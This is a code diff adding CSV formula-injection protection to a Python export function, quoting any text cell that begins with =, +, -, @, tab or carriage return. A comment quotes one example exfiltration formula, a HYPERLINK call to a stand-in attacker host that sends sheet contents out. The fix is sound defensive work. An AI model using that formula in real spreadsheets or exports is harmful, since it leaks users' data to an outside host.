@@ -43,14 +43,33 @@ def rows(registry: Registry) -> list[dict]:
     return out
 
 
+# A spreadsheet program runs a cell that begins with one of these as a formula
+# (=HYPERLINK("http://evil.example/?"&A1) sends the sheet away): OWASP's "CSV injection".
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value) -> str | int | float:
+    """A value as a CSV cell: lists joined with ' | ', None empty, and text that a spreadsheet
+    would take for a formula prefixed with a single quote, as OWASP recommends (the quote shows
+    in the cell; pairs.json and pairs.geojson keep the text as it is). Numbers are written as
+    numbers: a negative longitude is not a formula."""
+    if value is None:
+        return ""
+    if isinstance(value, list):
+        value = " | ".join(value)
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
 def to_csv(registry: Registry) -> bytes:
     """UTF-8 with a byte-order mark, so spreadsheet programs read the Thai correctly;
-    list fields are joined with ' | '."""
+    list fields are joined with ' | '; text is never a formula (csv_cell)."""
     buf = io.StringIO()
     writer = csv.DictWriter(buf, fieldnames=FIELDS, lineterminator="\r\n")
     writer.writeheader()
     for row in rows(registry):
-        writer.writerow({k: (" | ".join(v) if isinstance(v, list) else ("" if v is None else v)) for k, v in row.items()})
+        writer.writerow({k: csv_cell(v) for k, v in row.items()})
     return ("\ufeff" + buf.getvalue()).encode("utf-8")
 
 
